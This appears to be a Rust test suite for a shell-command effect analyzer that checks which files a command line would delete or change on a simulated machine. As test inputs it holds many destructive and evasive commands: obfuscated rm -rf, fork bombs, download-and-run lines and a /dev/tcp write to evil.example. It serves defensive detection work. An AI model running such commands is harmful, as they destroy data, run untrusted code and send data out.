//! What command lines come to, on a made-up machine.

use std::path::Path;

use weir_model::{Effect, Scope};

use super::analyze;
use crate::Analysis;
use crate::lab::Machine;

fn machine() -> Machine {
    Machine::new([
        ("/w/a.txt", "a"),
        ("/w/b.txt", "b"),
        ("/w/dir/x.log", ""),
        ("/w/dir/y.log", ""),
        ("/w/dir/z.txt", ""),
        ("/w/list", "a.txt\nb.txt\n"),
        ("/w/.git/HEAD", "ref: refs/heads/main\n"),
        ("/w/sub/deep/f", ""),
        ("/w/nuke.sh", "#!/bin/bash\ntarget=$1\nrm -rf \"$target\"\n"),
        ("/w/lib.sh", "clean() { rm -rf \"$1\"; }\nOUT=dir\n"),
        ("/w/plain", "rm -rf dir\n"),
        ("/w/loop.sh", "#!/bin/sh\n. ./loop.sh\n"),
        ("/home/me/.bashrc", ""),
        ("/home/me/Pictures/p.jpg", ""),
        ("/tmp/t", ""),
    ])
}

fn run(text: &str) -> Analysis {
    analyze(text, Path::new("/w"), &machine(), false)
}

/// The effects that destroy, change, or are not understood, one line each: verb, paths (or name), scope.
fn lines(text: &str) -> Vec<String> {
    run(text).effects.iter().filter(|effect| effect.verb.name() != "read").map(line).collect()
}

fn line(effect: &Effect) -> String {
    let paths: Vec<String> = effect.target.paths.iter().map(|path| path.display().to_string()).collect();
    let what = if paths.is_empty() { format!("[{}]", effect.target.name) } else { paths.join(" ") };
    let scope = match &effect.scope {
        Scope::Whole => String::new(),
        Scope::Filtered { .. } => " some".to_owned(),
        Scope::Content => " content".to_owned(),
        Scope::Files => " files".to_owned(),
        Scope::Moved { to } => format!(" to {}", to.display()),
        other => format!(" {other:?}"),
    };
    format!("{}{} {what}{scope}", if effect.opaque { "?" } else { "" }, effect.verb.name())
}

fn check(cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        assert_eq!(lines(text), *expected, "{text}");
    }
}

#[test]
fn words_are_expanded_as_the_shell_does() {
    check(&[
        ("rm -rf dir", &["delete /w/dir"]),
        ("rm -rf 'dir'", &["delete /w/dir"]),
        ("r''m -r\"f\" d\\ir", &["delete /w/dir"]),
        ("$'\\x72m' -rf dir", &["delete /w/dir"]),
        ("rm -rf ~", &["delete /home/me"]),
        ("rm -rf ~/Pictures", &["delete /home/me/Pictures"]),
        ("rm -rf $HOME/Pictures", &["delete /home/me/Pictures"]),
        ("rm -rf \"$HOME\"/Pict*", &["delete /home/me/Pictures"]),
        ("rm -rf {dir,sub}", &["delete /w/dir /w/sub"]),
        ("rm *.txt", &["delete /w/a.txt /w/b.txt files"]),
        ("rm dir/*.log", &["delete /w/dir/x.log /w/dir/y.log files"]),
        ("rm '*.txt'", &["delete /w/*.txt files"]),
        ("X=dir; rm -rf $X", &["delete /w/dir"]),
        ("X=di Y=r; rm -rf $X$Y", &["delete /w/dir"]),
        ("X='-rf dir'; rm $X", &["delete /w/dir"]),
        ("X='a.txt b.txt'; rm \"$X\"", &["delete /w/a.txt b.txt files"]),
        ("rm -rf ${X:-dir}", &["delete /w/dir"]),
        ("X=dir/x.log; rm -rf ${X%/*}", &["delete /w/dir"]),
        ("X=xxdir; rm -rf ${X#xx}", &["delete /w/dir"]),
        ("X=DIR; rm -rf ${X,,}", &["delete /w/dir"]),
        ("X=dZr; rm -rf ${X/Z/i}", &["delete /w/dir"]),
        ("X=dirxx; rm -rf ${X:0:3}", &["delete /w/dir"]),
        ("A=(dir sub); rm -rf \"${A[@]}\"", &["delete /w/dir /w/sub"]),
        ("A=(dir sub); rm -rf \"${A[1]}\"", &["delete /w/sub"]),
        ("set -- dir sub; rm -rf \"$@\"", &["delete /w/dir /w/sub"]),
        ("set -- dir sub; shift; rm -rf $1", &["delete /w/sub"]),
        ("IFS=,; X=dir,sub; rm -rf $X", &["delete /w/dir /w/sub"]),
        ("rm${IFS}-rf${IFS}dir", &["delete /w/dir"]),
        ("rm -rf $(echo dir)", &["delete /w/dir"]),
        ("rm -rf `echo dir`", &["delete /w/dir"]),
        ("rm -rf \"$(pwd)\"/dir", &["delete /w/dir"]),
        ("rm -rf $PWD/dir", &["delete /w/dir"]),
        ("rm -rf $(basename /x/dir)", &["delete /w/dir"]),
        ("rm -rf $(printf '%s' di r)", &["delete /w/dir"]),
        ("rm -rf $(cat list)", &["delete /w/a.txt /w/b.txt"]),
        ("rm -rf $(echo ZGly | base64 -d)", &["delete /w/dir"]),
        ("rm -rf \"$(git rev-parse --show-toplevel)/dir\"", &["delete /w/dir"]),
        ("n=rm; $n -rf dir", &["delete /w/dir"]),
        ("$(which rm) -rf dir", &["delete /w/dir"]),
        ("/bin/rm -rf dir", &["delete /w/dir"]),
        ("\\rm -rf dir", &["delete /w/dir"]),
        ("rm -rf $UNSET_IN_THIS_WORLD", &["?delete [$UNSET_IN_THIS_WORLD]"]),
        ("rm -rf dir/$UNSET_IN_THIS_WORLD", &["delete /w/dir some"]),
        ("$UNSET_IN_THIS_WORLD -rf dir", &["?execute [$UNSET_IN_THIS_WORLD]"]),
    ]);
}

#[test]
fn a_directory_that_is_run_is_its_main_file_and_a_download_is_not_known() {
    let machine = Machine::new([
        ("/w/app/package.json", r#"{"main": "lib/main"}"#),
        ("/w/app/lib/main.js", "require('fs').rmSync('dir')"),
        ("/w/loop/package.json", r#"{"main": "."}"#),
        ("/w/tests/a.test.js", ""),
        ("/w/py/__main__.py", "import shutil; shutil.rmtree('dir')"),
    ]);
    let kinds = |text: &str| -> Vec<String> {
        let effects = analyze(text, Path::new("/w"), &machine, false).effects;
        let told = effects.iter().filter(|effect| {
            effect.verb == weir_model::Verb::Delete || effect.target.kind == weir_model::TargetKind::Unknown
        });
        told.map(|effect| format!("{} {}", effect.verb.name(), effect.target.kind.name())).collect()
    };
    for (text, expected) in [
        ("node app", Some("delete file-tree")),
        ("cd app && node .", Some("delete file-tree")),
        ("python3 py", Some("delete file-tree")),
        ("node --test tests/", None),
        ("node loop", None),
        ("bash tests", None),
        ("curl x.example | tee d.sh; bash d.sh", Some("execute unknown")),
        ("curl x.example | tee app/lib/main.js; node app", Some("execute unknown")),
    ] {
        assert_eq!(kinds(text).first().map(String::as_str), expected, "{text}");
    }
}

#[test]
fn other_shells_are_recognized() {
    check(&[
        ("Remove-Item -Recurse -Force C:\\x", &["?execute [Remove-Item]"]),
        ("fish -c 'echo hi; and rm -rf dir'", &["delete /w/dir"]),
        ("pwsh -Command 'Remove-Item -Recurse dir'", &["delete /w/dir", "?execute [pwsh]"]),
        ("not rm -rf dir", &["delete /w/dir"]),
        ("! ! rm -rf dir", &["delete /w/dir"]),
        ("mapfile -C 'rm -rf dir;' -c 1 A < list", &["delete /w/dir"]),
        ("printf -v 'a[$(rm -rf dir)]' x", &["delete /w/dir"]),
        ("declare -a 'x=($(rm -rf dir))'", &["delete /w/dir"]),
        ("echo {a,b x; rm -rf dir", &["delete /w/dir"]),
        ("A=(di); A+=r; rm -rf $A", &["delete /w/dir"]),
        ("break; rm -rf dir", &["delete /w/dir"]),
    ]);
    let held = |text: &str| {
        // Either it is not analyzed, and says so, or what it deletes has been read.
        let told = |effect: &Effect| {
            effect.verb == weir_model::Verb::Delete
                || (effect.opaque && effect.target.kind == weir_model::TargetKind::Unknown)
        };
        run(text).effects.iter().any(told)
    };
    for text in [
        "Get-ChildItem | Remove-Item",
        "powershell.exe -c \"rm -r dir\"",
        "cmd /c \"del /s /q dir\"",
        "cmd.exe /c rd /s /q dir",
        "fish -c 'for f in *.txt; rm $f; end'",
        "for f in *.txt; rm $f; end",
        "zsh -c 'for f (*.txt) rm $f'",
        "zsh -c 'rm -rf ${(f)\"$(ls)\"}'",
        "repeat 3 { rm -rf dir }",
    ] {
        assert!(held(text), "{text}");
    }
    for text in ["pwsh -Command Get-Date", "Get-ChildItem | Select-Object Name", "fish -c 'echo hi'", "cmd /c ver"] {
        assert!(!held(text), "{text}");
    }
}

#[test]
fn directories_are_followed() {
    check(&[
        ("cd dir && rm -rf x.log", &["delete /w/dir/x.log"]),
        ("cd dir; rm -rf x.log", &["delete /w/dir/x.log"]),
        ("(cd dir && rm x.log); rm a.txt", &["delete /w/dir/x.log files", "delete /w/a.txt files"]),
        ("cd dir || exit 1; rm -rf *", &["delete /w/dir/x.log /w/dir/y.log /w/dir/z.txt"]),
        ("cd nowhere && rm -rf y", &["delete /w/nowhere/y"]),
        ("cd nowhere; rm -rf y", &["delete /w/nowhere/y", "delete /w/y"]),
        ("cd nowhere || exit; rm -rf y", &["delete /w/nowhere/y"]),
        ("cd; rm -rf Pictures", &["delete /home/me/Pictures"]),
        ("cd ~ && rm -rf Pictures", &["delete /home/me/Pictures"]),
        ("cd $UNKNOWN_DIR; rm -rf y", &["?delete [y]", "delete /w/y"]),
        ("pushd dir; rm -rf x.log; popd; rm -rf a.txt", &["delete /w/dir/x.log", "delete /w/a.txt"]),
        ("mkdir -p new && cd new && rm -rf y", &["create /w/new", "delete /w/new/y"]),
        ("cd sub; cd ..; rm -rf dir", &["delete /w/dir"]),
        ("cd dir; cd -; rm -rf sub", &["delete /w/sub"]),
    ]);
}

#[test]
fn control_flow_reaches_every_branch_that_may_run() {
    check(&[
        ("true && rm -rf dir", &["delete /w/dir"]),
        ("false && rm -rf dir", &[]),
        ("! false && rm -rf dir", &["delete /w/dir"]),
        ("false || rm -rf dir", &["delete /w/dir"]),
        ("test -d dir && rm -rf dir || rm -rf sub", &["delete /w/dir", "delete /w/sub"]),
        ("if [ -d dir ]; then rm -rf dir; else rm -rf sub; fi", &["delete /w/dir", "delete /w/sub"]),
        ("if false; then rm -rf dir; fi", &[]),
        ("if [ x ]; then X=dir; else X=sub; fi; rm -rf $X", &["delete /w/dir /w/sub"]),
        ("for d in dir sub; do rm -rf $d; done", &["delete /w/dir", "delete /w/sub"]),
        ("for f in *.txt; do rm \"$f\"; done", &["delete /w/a.txt files", "delete /w/b.txt files"]),
        ("for ((i=0;i<3;i++)); do rm -rf dir; done", &["delete /w/dir"]),
        ("d=dir; while true; do rm -rf $d; d=sub; done", &["delete /w/dir", "delete /w/sub /w/dir"]),
        ("while read f; do rm \"$f\"; done < list", &["delete /w/a.txt /w/b.txt files"]),
        ("cat list | while read -r f; do rm \"$f\"; done", &["delete /w/a.txt /w/b.txt files"]),
        ("find dir -type f | while read f; do rm \"$f\"; done", &["delete /w/dir some"]),
        ("case $X in a) rm -rf dir;; *) rm -rf sub;; esac", &["delete /w/dir", "delete /w/sub"]),
        ("f() { rm -rf \"$1\"; }; f dir", &["delete /w/dir"]),
        ("f() { rm -rf dir; }", &[]),
        ("function f { local d=$1; rm -rf $d; }; d=sub; f dir; rm -rf $d", &["delete /w/dir", "delete /w/sub"]),
        ("trap 'rm -rf dir' EXIT; true", &["delete /w/dir"]),
        ("trap 'rm -rf \"$T\"' EXIT; T=dir; exit 1", &["delete /w/dir"]),
        ("exit 0; rm -rf dir", &[]),
        ("{ rm -rf dir; } 2>/dev/null", &["delete /w/dir"]),
        ("rm -rf dir &", &["delete /w/dir"]),
        ("time rm -rf dir", &["delete /w/dir"]),
        ("[[ -d $(rm -rf dir) ]]", &["delete /w/dir"]),
        ("echo $((1 + $(rm -rf dir)))", &["delete /w/dir"]),
        ("X=$(rm -rf dir)", &["delete /w/dir"]),
        ("echo \"${X:-$(rm -rf dir)}\"", &["delete /w/dir"]),
    ]);
}

#[test]
fn programs_inside_programs_are_followed() {
    check(&[
        ("bash -c 'rm -rf dir'", &["delete /w/dir"]),
        ("bash -lc \"bash -c 'rm -rf dir'\"", &["delete /w/dir"]),
        ("sh -c 'rm -rf \"$1\"' x dir", &["delete /w/dir"]),
        ("eval 'rm -rf dir'", &["delete /w/dir"]),
        ("eval rm -rf dir", &["delete /w/dir"]),
        ("echo 'rm -rf dir' | sh", &["delete /w/dir"]),
        ("echo cm0gLXJmIGRpcg== | base64 -d | bash", &["delete /w/dir"]),
        ("echo 'ez -es qve' | tr 'a-z' 'n-za-m' | bash", &["delete /w/dir"]),
        ("sh <<< 'rm -rf dir'", &["delete /w/dir"]),
        ("sh <<'E'\nrm -rf dir\nE", &["delete /w/dir"]),
        ("bash <(echo 'rm -rf dir')", &["delete /w/dir"]),
        ("sudo rm -rf dir", &["delete /w/dir"]),
        ("sudo -u me env A=b nice -n 5 timeout 3 rm -rf dir", &["delete /w/dir"]),
        ("echo dir | xargs rm -rf", &["delete /w/dir"]),
        ("find dir -name '*.log' | xargs rm -f", &["delete /w/dir some"]),
        ("ls dir/*.log | xargs rm", &["delete /w/dir/x.log files", "delete /w/dir/y.log files"]),
        ("find dir -exec rm -rf {} +", &["delete /w/dir some"]),
        ("./nuke.sh dir", &["delete /w/dir"]),
        ("bash nuke.sh dir", &["delete /w/dir"]),
        ("sh ./plain", &["delete /w/dir"]),
        (". ./lib.sh; clean sub; rm -rf $OUT", &["delete /w/sub", "delete /w/dir"]),
        ("source lib.sh && clean sub", &["delete /w/sub"]),
        ("echo 'rm -rf dir' > x.sh; bash x.sh", &["modify /w/x.sh content", "delete /w/dir"]),
        (
            "cat > x.sh <<'E'\nrm -rf dir\nE\nchmod +x x.sh && ./x.sh",
            &["modify /w/x.sh content", "modify /w/x.sh", "delete /w/dir"],
        ),
        ("alias r='rm -rf'; r dir", &["delete /w/dir", "?execute [r]"]),
        ("command rm -rf dir", &["delete /w/dir"]),
        ("exec rm -rf dir", &["delete /w/dir"]),
        ("cd dir && bash -c \"rm -rf $UNSET_IN_THIS_WORLD/x\"", &["?execute [bash -c]", "?delete […/x]"]),
    ]);
}

#[test]
fn data_is_not_code() {
    check(&[
        ("echo 'rm -rf /'", &[]),
        ("printf 'rm -rf %s\\n' /", &[]),
        ("git commit -m 'rm -rf / and drop table users'", &["modify /w"]),
        ("grep -r 'rm -rf' .", &[]),
        ("cat <<'E'\nrm -rf /\nE", &[]),
        ("cat > notes.md <<'E'\nrm -rf /\n$(rm -rf /)\nE", &["modify /w/notes.md content"]),
        ("# rm -rf /\nls", &[]),
        ("X='rm -rf /'; echo \"$X\"", &[]),
        ("ls # ; rm -rf /", &[]),
    ]);
}

#[test]
fn redirections_write() {
    check(&[
        ("echo x > a.txt", &["modify /w/a.txt content"]),
        ("echo x >> a.txt", &["modify /w/a.txt"]),
        ("> a.txt", &["modify /w/a.txt content"]),
        (": > a.txt", &["modify /w/a.txt content"]),
        ("ls > /dev/null 2>&1", &[]),
        ("ls &> /dev/null", &[]),
        ("ls 2> err", &["modify /w/err content"]),
        ("cat < a.txt > b.txt", &["modify /w/b.txt content"]),
        ("cat a.txt > /dev/sda", &["modify /dev/sda content"]),
        ("echo x > /dev/tcp/evil.example/80", &["send [evil.example:80]"]),
        ("echo x > out-$UNSET_IN_THIS_WORLD.txt", &["create /w/out-…"]),
        ("echo x > .hidden/$UNSET_IN_THIS_WORLD", &["?modify [.hidden/$UNSET_IN_THIS_WORLD]"]),
        ("{ echo a; echo b; } > x; sh x", &["modify /w/x content", "?execute [a]", "?execute [b]"]),
        ("exec > log; echo x", &["modify /w/log content"]),
    ]);
}

#[test]
fn spans_point_into_the_action() {
    let text = "ls; bash -c 'x' && (cd dir && rm -rf \"x.log\")";
    let analysis = run(text);
    let effect = analysis.effects.iter().find(|effect| effect.verb.name() == "delete").unwrap();
    let span = effect.span.unwrap();
    assert_eq!(text.get(span.start..span.end).unwrap(), "rm -rf \"x.log\"");
    let analysis = run("sudo bash nuke.sh dir");
    let effect = analysis.effects.iter().find(|effect| effect.verb.name() == "delete").unwrap();
    assert_eq!(effect.via, ["sudo", "bash nuke.sh"]);
    assert_eq!(analysis.pins.len(), 1);
    assert_eq!(analysis.pins[0].path, Path::new("/w/nuke.sh"));
}

#[test]
fn hostile_text_ends_in_a_finding_and_soon() {
    let bombs = [
        ":(){ :|:& };:".to_owned(),
        "f() { f; f; }; f".to_owned(),
        "./loop.sh".to_owned(),
        format!("rm -rf dir; {}", "$(".repeat(3_000)),
        "(".repeat(20_000),
        "a;".repeat(30_000),
        format!("{}rm -rf dir{}", "bash -c \"", "\""),
        format!("echo {}", "{1..99}".repeat(8)),
        format!("X=a; {}", "X=$X$X;".repeat(40)),
        format!("cat <<E\n{}\nE", "x".repeat(900_000)),
        "x".repeat(2_000_000),
        format!("{} true {}", "if true; then".repeat(400), "; fi".repeat(400)),
        "eval 'eval \"$0\"'".to_owned(),
        format!("{}x", "! ".repeat(50_000)),
        format!("x{}", " && x".repeat(20_000)),
        format!("x{}", " | x".repeat(5_000)),
        format!("{} rm -rf \"${{a[@]}}\"", "a+=(x);".repeat(20_000)),
        format!("{} rm -rf \"${{a[2]}}\"", "a[1]=x;".repeat(20_000)),
        (0..8_000).map(|n| format!("if a; then V{n}=1; fi;")).collect::<String>() + "rm -rf \"$V7999\"",
    ];
    for bomb in &bombs {
        let start = std::time::Instant::now();
        let analysis = run(bomb);
        let shown: String = bomb.chars().take(40).collect();
        eprintln!("{:?} {shown}", start.elapsed());
        assert!(start.elapsed().as_secs() < 20, "{shown} took {:?}", start.elapsed());
        assert!(!analysis.effects.is_empty() || bomb.starts_with("cat") || bomb.starts_with("X="), "{shown}");
    }
    for limited in [0usize, 1, 4, 10] {
        assert!(!run(&bombs[limited]).complete);
    }
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 600, ..Default::default() })]

    /// Letters beyond ASCII in text that is not a whole command: the error-tolerant parser takes them too.
    #[test]
    fn any_letters_in_broken_text_are_analyzed(letter in proptest::prelude::any::<char>(), at in 0usize..5) {
        let pieces = ["if {", "}; fi", "rm -rf '", "$((x", "{7if #; do", "<<E "];
        let (before, after) = (pieces[at], pieces[(at + 1) % 6]);
        let analysis = run(&format!("{before}{letter}{after}; rm x"));
        proptest::prop_assert!(!analysis.effects.is_empty());
    }

    /// Any text ends in an analysis, and every span in it is a piece of the text.
    #[test]
    fn any_text_is_analyzed(text in any_shell()) {
        let analysis = run(&text);
        for effect in &analysis.effects {
            if let Some(span) = effect.span {
                proptest::prop_assert!(text.get(span.start..span.end).is_some(), "{:?} of {:?}", span, text);
            }
        }
    }
}

/// Pieces of shell text in any order, and anything between them.
fn any_shell() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let piece = prop_oneof![
        4 => proptest::sample::select(vec![
            "rm -rf ", "dir", "$X", "${X:-", "}", "$(", ")", "`", "\"", "'", "$'", "\\", " ", "\n", ";", "&&", "||", "|", "&",
            "<<E\n", "\nE\n", "<<<", ">", ">>", "<(", "{", "{a,b}", "(", "[[ ", " ]]", "if ", "; then ", "; fi", "for x in ",
            "; do ", "; done", "case x in ", "esac", "f() { ", "eval ", "cd ", "X=", "A=(", "*", "?", "[a", "~", "#", "é", "sh -c ",
            "find . -exec ", "xargs ", "git ", "python3 -c ", "while read l", "$((", "))", "!", "function g ", "trap ", "\u{FFFC}",
        ])
        .prop_map(str::to_owned),
        1 => any::<String>(),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Every text must reach the directory `dir`, whatever else it may do.
fn reaches(texts: &[&str]) {
    for text in texts {
        let found = lines(text);
        let is_there = |path: &str| Path::new(path).starts_with("/w/dir") || Path::new("/w/dir").starts_with(path);
        let hit = |line: &String| {
            line.starts_with('?') || line.strip_prefix("delete ").is_some_and(|rest| rest.split(' ').any(is_there))
        };
        assert!(found.iter().any(hit), "{text}: {found:?}");
    }
}

#[test]
fn what_a_branch_leaves_behind_counts() {
    reaches(&[
        "D=x; for c in dir y; do if [ -d $c ]; then D=$c; break; fi; done; rm -rf $D",
        "f() { if [ x ]; then D=dir; return; fi; D=y; }; f; rm -rf $D",
        "if a; then f() { :; }; else f() { rm -rf dir; }; fi; f",
        "if a; then rm() { :; }; fi; rm -rf dir",
        "if a; then HOME=/x; fi; rm -rf $HOME/../../w/dir",
        "D=x; case a in a) D=dir ;& b) rm -rf $D ;; esac",
        "{ trap 'rm -rf dir' EXIT; } | cat",
        "rm() { :; }; bash -c 'rm -rf dir'",
        "alias rm=echo; bash -c 'rm -rf dir'",
    ]);
    check(&[
        // Where both branches leave nothing behind, nothing is invented.
        ("if a; then D=dir; else D=sub; fi; rm -rf $D", &["?execute [a]", "delete /w/dir /w/sub"]),
        // What a subshell's own shell does not get, it does not see.
        ("D=dir; bash -c 'rm -rf \"$D\"'", &["?delete [\"$D\"]"]),
        ("export D=dir; bash -c 'rm -rf \"$D\"'", &["delete /w/dir"]),
        ("D=dir bash -c 'rm -rf \"$D\"'", &["delete /w/dir"]),
        ("f() { rm -rf dir; }; export -f f; bash -c f", &["delete /w/dir"]),
    ]);
}

#[test]
fn variables_are_what_the_shell_makes_of_them() {
    reaches(&[
        "a[1]=dir; rm -rf \"${a[1]}\"",
        "a=([3]=dir); rm -rf \"${a[3]}\"",
        "a=(x y); a[0]=dir; rm -rf \"${a[0]}\"",
        "a=dir; a+=(y); rm -rf \"${a[@]}\"",
        "a=(x dir); a=y; rm -rf \"${a[@]}\"",
        "declare -n r=D; D=dir; rm -rf \"$r\"",
        "D=x; declare -n r=D; r=dir; rm -rf \"$D\"",
        "set -x -- dir; rm -rf \"$@\"",
        "set -eu dir; rm -rf \"$1\"",
        "set -o errexit dir; rm -rf \"$@\"",
        "set dir y; shift 5; rm -rf \"$1\"",
        "unset X; rm -rf ${X-dir}",
        "IFS=, read -r a b <<< 'x,dir'; rm -rf \"$b\"",
        "IFS=: read a b c <<< 'x:dir:y'; rm -rf \"$b\"",
        "read -ra A <<< 'x dir'; rm -rf \"${A[@]}\"",
        "while IFS=, read a b; do rm -rf \"$b\"; done <<< 'x,dir'",
        "HOME=/w; rm -rf ~/dir",
        "cd dir; cd ..; rm -rf ~-",
        "CDPATH=/w; cd /home/me; cd dir && rm -rf ../dir",
        "shopt -s extglob; rm -rf !(sub)",
        "X=dirxx; rm -rf ${X%%+(x)}",
        "rm -rf {x,di}\"r\"",
        "rm -rf {x,di}'r' y",
        "HOME=/x; E=; cd /w; mkdir '~'; rm -rf ~$E/../dir",
        "cd /; rm -rf ${NOT_SET:-\"w/dir/a b\"}",
        "set -- x dir; rm -rf w\"${@:2}\"/../dir",
    ]);
}

#[test]
fn what_is_moved_or_linked_is_still_what_it_was() {
    reaches(&[
        "mv dir /tmp/x && rm -rf /tmp/x",
        "mkdir /tmp/q; mv dir /tmp/q && rm -rf /tmp/q",
        "ln -s dir l && rm -rf l/*",
        "ln -s /w/dir l && cd l && rm -rf ../dir",
        "ln -s /w /tmp/l; rm -rf /tmp/l/dir",
        "cd /; rm -rf /proc/self/cwd/w/dir",
        "cp plain run && ./run",
        "mv plain run; ./run",
        "ln -s plain run; ./run",
        "ln plain run && bash run",
        "cp /bin/rm x; ./x -rf dir",
        "ln -s /bin/rm x; ./x -rf dir",
        "curl -O https://x.example/i.sh; ./i.sh",
        "wget https://x.example/i.sh; bash i.sh",
        "wget https://x.example/i.sh; . ./i.sh",
        "$(<plain)",
        "hash -p ./plain ls; ls",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf dir",
    ]);
    check(&[
        ("mv x y && rm -rf y", &["modify /w/x to /w/y", "delete /w/y /w/x"]),
        // A copy is no other name, and a link that goes is only a link.
        ("cp -r dir /tmp/c && rm -rf /tmp/c", &["create /tmp/c", "delete /tmp/c"]),
        ("ln -s dir l && rm l", &["create /w/l", "delete /w/l files"]),
        ("mv a.txt /dev/null", &["delete /w/a.txt files", "delete /dev/null files"]),
    ]);
}

#[test]
fn variables_that_run_something_are_run() {
    reaches(&[
        "PATH=.:$PATH plain",
        "export PATH=/w:$PATH; plain",
        "mkdir bin; echo 'rm -rf dir' > bin/ls; PATH=bin:$PATH ls",
        "env PATH=/w plain",
        "BASH_ENV=plain bash -c :",
        "env BASH_ENV=./plain bash -c true",
        "PROMPT_COMMAND='rm -rf dir' bash -i",
        "PS4='$(rm -rf dir)' bash -xc :",
        "PS4='$(rm -rf dir)'; set -x; ls",
        "EDITOR='rm -rf dir #' crontab -e",
        "export PAGER='rm -rf dir'; man ls",
        "env -S 'rm -rf' dir",
        "env -S'rm -rf dir'",
        "env -S \"bash -c 'rm -rf dir'\"",
        "env -iS 'rm -rf' dir",
        "env --split-string='rm -rf' dir",
        "env -C / A=b rm -rf w/dir",
        "command_not_found_handle() { rm -rf dir; }; no_such_program",
    ]);
    check(&[
        ("EDITOR=vi git --version", &[]),
        ("PAGER=cat man ls", &[]),
        ("BASH_ENV=/dev/null bash -c :", &[]),
        ("PATH=/usr/bin rm a.txt", &["delete /w/a.txt files"]),
        ("env A=b rm a.txt", &["delete /w/a.txt files"]),
        ("env | grep A", &[]),
        ("env --help", &[]),
    ]);
}

#[test]
fn every_effect_stands_in_the_step_that_has_it() {
    fn sources(steps: &[weir_model::Step], path: &str, found: &mut Vec<(usize, String)>) {
        for step in steps {
            let path = format!("{path}/{}", step.source);
            found.extend(step.effects.iter().map(|at| (*at, path.clone())));
            sources(&step.steps, &path, found);
        }
    }
    for (command, expected) in [
        ("rm a; rm b", vec!["/rm a", "/rm b"]),
        ("sudo rm a", vec!["/sudo rm a/rm a"]),
        (
            "sh -c 'rm a; rm b' | rm c",
            vec!["/sh -c 'rm a; rm b'/sh -c/rm a", "/sh -c 'rm a; rm b'/sh -c/rm b", "/rm c"],
        ),
        ("f() { rm $1; }; f x", vec!["/f x/rm $1"]),
        ("echo $(rm a) >b", vec!["/echo $(rm a) >b", "/echo $(rm a) >b/rm a"]),
        ("X=$(rm a)", vec!["/X=$(rm a)/rm a"]),
        ("for i in 1 2; do rm $i; done", vec!["/rm $i", "/rm $i"]),
    ] {
        let analysis = analyze(command, Path::new("/w"), &machine(), true);
        let mut found = Vec::new();
        sources(&analysis.steps, "", &mut found);
        let mut places: Vec<usize> = found.iter().map(|(at, _)| *at).collect();
        places.sort_unstable();
        assert_eq!(places, (0..analysis.effects.len()).collect::<Vec<_>>(), "{command}: {:?}", analysis.steps);
        let is_read = |at: usize| analysis.effects[at].verb == weir_model::Verb::Read;
        let found: Vec<String> = found.into_iter().filter(|(at, _)| !is_read(*at)).map(|(_, path)| path).collect();
        assert_eq!(found, expected, "{command}");
        assert!(analyze(command, Path::new("/w"), &machine(), false).steps.is_empty());
    }
}

#[test]
fn what_autoconf_generates_is_read_in_part_and_what_follows_in_full() {
    let body = "\"$CONFIG_SHELL\" -c 'exit 0' || eval \"$as_unset\"\nrm -rf conftest* dir\n".repeat(900);
    let script = format!(
        "#! /bin/sh\n# Guess values for system-dependent variables.\n# Generated by GNU Autoconf 2.71.\n{body}"
    );
    let long = |script: &str| {
        let world = Machine::new([("/w/configure", script), ("/w/dir/x", ""), ("/w/after/x", "")]);
        let analysis = analyze("./configure && rm -rf after", Path::new("/w"), &world, false);
        let opaque = analysis.effects.iter().filter(|effect| effect.opaque).count();
        let deleted: Vec<String> = analysis
            .effects
            .iter()
            .filter(|effect| effect.verb.name() == "delete")
            .map(|effect| effect.target.name.clone())
            .collect();
        (opaque, deleted)
    };
    let (opaque, deleted) = long(&script);
    assert_eq!(opaque, 1, "one program that is not known");
    assert!(deleted.iter().any(|name| name == "dir") && deleted.iter().any(|name| name == "after"), "{deleted:?}");
    // Without the length of a generated text it is a script like any other.
    let (opaque, _) = long("#! /bin/sh\n# Generated by GNU Autoconf 2.71.\n\"$CONFIG_SHELL\" -c 'rm -rf x'\n");
    assert!(opaque > 0);
}

#[test]
fn what_git_is_configured_to_run_holds_for_the_rest_of_the_command() {
    for command in [
        "git config alias.nuke '!rm -rf dir' && git nuke",
        "git config --global alias.nuke '!rm -rf \"dir\"'; git nuke",
        "git config alias.a b; git config alias.b '!rm -rf dir'; git a",
    ] {
        assert!(lines(command).iter().any(|line| line == "delete /w/dir"), "{command}: {:?}", lines(command));
    }
    let defined = lines("git config --global alias.nuke '!rm -rf dir'");
    assert!(!defined.iter().any(|line| line.starts_with("delete")), "{defined:?}");
}

#[test]
fn what_is_run_by_another_name_is_found() {
    reaches(&[
        "shopt -s expand_aliases\nalias wipe='rm -rf dir'\nwipe",
        "parallel ::: 'rm -rf dir'",
        "parallel 'rm -rf {}' ::: dir",
        "echo 'rm -rf dir' | parallel",
    ]);
    check(&[
        ("shopt -s expand_aliases\nalias zap='ls'\nrm a.txt", &["delete /w/a.txt files"]),
        ("find dir -name --help -delete", &["delete /w/dir some"]),
        ("find dir -exec echo --help \\; -delete", &["delete /w/dir"]),
        ("find dir --help -delete", &[]),
        // Without its end `find` refuses the command.
        ("find dir -exec rm -rf {}", &[]),
        // A branch has the name that it has here.
        ("git push origin \"$(git branch --show-current)\"", &["publish /w"]),
    ]);
}

#[test]
fn characters_beyond_the_tables_of_c_do_no_harm() {
    check(&[("rm \"é`echo x`.txt\"", &["delete /w/éx.txt files"])]);
    let _ = run("`cd \"while read l`¥𐺫ᏹ\\R<\\%`$$🕴$=L𐴲\"b`");
    for text in ["&{\u{e0170}", ";{\u{1f600}", "\"\"{\u{e0170})", "f() { ; then \u{10ffff}"] {
        let _ = run(text);
    }
}
